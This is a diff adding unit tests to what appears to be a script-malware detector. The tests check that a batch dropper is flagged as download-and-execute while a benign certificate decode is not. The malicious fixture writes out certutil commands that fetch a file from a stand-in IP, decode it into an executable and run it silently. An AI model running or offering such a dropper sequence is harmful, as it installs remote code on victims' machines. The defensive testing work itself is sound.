@@ -575,3 +575,23 @@ describe('archives downloaded, unpacked and run; cmd.exe command lines', () => {
     ).toEqual([]);
   });
 });
+
+describe('batch droppers that decode what they download and run it under a condition', () => {
+  const batch = (text: string) => analyzeScript(text, 'batch', true).map((h) => h.rule);
+  it('certutil -urlcache of a text file, certutil -decode into an exe, then if exist … start /b', () => {
+    expect(
+      batch(`@echo off
+set "D=%TEMP%\\ewn"
+certutil -urlcache -split -f http://203.0.113.17/dl/binding.txt "%D%\\b.txt" >nul 2>&1
+certutil -decode "%D%\\b.txt" "%D%\\host.exe" >nul 2>&1
+if exist "%D%\\host.exe" start "" /b "%D%\\host.exe" --silent`),
+    ).toContain('script.download-execute');
+  });
+  it('quiet: certutil -decode of a certificate shipped with the package, then if exist … echo', () => {
+    expect(
+      batch(`@echo off
+certutil -decode "%~dp0ca.b64" "%~dp0ca.crt" >nul
+if exist "%~dp0ca.crt" echo certificate ready`),
+    ).toEqual([]);
+  });
+});
